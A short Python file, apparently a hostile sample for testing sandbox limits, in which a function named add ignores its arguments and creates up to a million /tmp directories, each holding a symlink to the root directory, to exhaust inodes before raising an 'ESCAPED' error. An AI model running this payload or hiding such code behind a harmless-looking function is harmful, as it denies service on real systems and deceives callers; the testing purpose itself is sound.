"""Makes empty files, folders and links until there are no more inodes."""

KIND = "call"
import os


def add(a, b):
    for number in range(1_000_000):
        os.mkdir(f"/tmp/touchstone_attack_{number}")
        os.symlink("/", f"/tmp/touchstone_attack_{number}/link")
    raise RuntimeError("ESCAPED: two million inodes")
